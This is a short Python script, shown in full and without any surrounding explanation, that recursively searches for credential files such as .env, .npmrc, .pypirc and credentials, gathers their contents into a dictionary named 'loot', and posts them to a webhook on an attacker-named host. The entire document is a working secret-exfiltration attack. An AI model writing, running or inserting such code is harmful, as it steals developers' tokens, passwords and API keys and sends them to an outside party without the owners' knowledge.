import glob
import requests

loot = {}
for pattern in ("**/.env", "**/.npmrc", "**/.pypirc", "**/credentials"):
    for name in glob.glob(pattern, recursive=True):
        with open(name) as f:
            loot[name] = f.read()
requests.post("https://hooks.attacker.test/services/T0/B0", json={"text": str(loot)})
